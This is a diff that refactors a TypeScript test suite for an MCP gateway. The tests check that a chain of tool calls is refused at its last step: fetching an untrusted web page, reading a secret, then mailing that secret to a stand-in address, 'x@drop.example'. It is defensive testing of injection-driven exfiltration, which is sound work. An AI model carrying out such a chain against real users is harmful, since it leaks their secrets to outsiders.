@@ -1,68 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { topics } from '../../schemas/topics.ts';
-import { connectLegacy, connectModern, type TestClient } from '../support/gateway/mcp-clients.ts';
-import { dataOf, type Rig, startRig, until, World } from '../support/gateway/gateway-rig.ts';
-import { PipeTransport } from '../support/gateway/pipe-transport.ts';
-
-const listen = '127.0.0.1:0';
-
-interface Scene {
-  readonly world: World;
-  readonly rig: Rig;
-  readonly client: TestClient;
-}
-
-type Form = (world: World) => Promise<{ readonly rig: Rig; readonly client: TestClient }>;
-
-const overStdio: Form = async (world) => {
-  const transport = new PipeTransport();
-  const { serverCommand } = world;
-  const rig = await startRig({ world, serverCommand, hasWorker: true, overrides: { pipes: transport.pipes } });
-  return { rig, client: await connectLegacy(transport) };
-};
-
-const overHttp: Form = async (world) => {
-  const rig = await startRig({ world, serverCommand: world.serverCommand, hasWorker: true, given: { listen } });
-  return { rig, client: await connectLegacy(rig.url) };
-};
-
-const overHttpInModernEra: Form = async (world) => {
-  const rig = await startRig({ world, serverCommand: world.serverCommand, hasWorker: true, given: { listen } });
-  return { rig, client: await connectModern(rig.url) };
-};
-
-async function inScene(form: Form, play: (scene: Scene) => Promise<void>): Promise<void> {
-  using world = new World();
-  const { rig, client } = await form(world);
-  await using _ending = rig;
-  await client.tools();
-  try {
-    await play({ world, rig, client });
-  } finally {
-    await client.close();
-  }
-}
-
-/** Reads what is not trusted, then a secret, and waits until the gateway is armed. */
-async function readPageAndSecret({ client, rig }: Scene, entry = 'first'): Promise<void> {
-  await client.call('fetch_webpage', { url: 'https://news.example/today' });
-  await client.call('get_secret', { entry });
-  await until(() => rig.records.some((record) => record.topic === topics.acks && isApplied(dataOf(record))));
-}
-
-function isApplied(ack: Readonly<Record<string, unknown>>): boolean {
-  return (ack['commands'] as { readonly status: string }[]).some(({ status }) => status === 'applied');
-}
-
-function mailsSeen({ world }: Scene): number {
-  return world.seen().filter(({ tool }) => tool === 'send_mail').length;
-}
-
-const forms = [
-  ['over stdio', overStdio],
-  ['over HTTP', overHttp],
-  ['over HTTP in the 2026-07-28 era', overHttpInModernEra],
-] as const;
+import { until } from '../support/gateway/gateway-rig.ts';
+import { armed, forms, inScene, mailsSeen, overHttp, overStdio, readPageAndSecret } from '../support/gateway/scenes.ts';
 
 describe.each(forms)('a chain %s', (_name, form) => {
   it('is refused at its last call, which the server never sees', async () => {
@@ -120,11 +59,9 @@ describe('a secret on its way out', () => {
     await inScene(overStdio, async (scene) => {
       await readPageAndSecret(scene);
       const { client, world, rig } = scene;
-      const before = rig.records.length;
+      const after = rig.records.length;
       await client.call('get_secret', { entry: 'other' });
-      await until(() =>
-        rig.records.slice(before).some((record) => record.topic === topics.acks && isApplied(dataOf(record))),
-      );
+      await armed(rig, { after });
       expect(await client.call('send_mail', { to: 'x@drop.example', body: world.other })).toMatchObject({
         isError: true,
       });
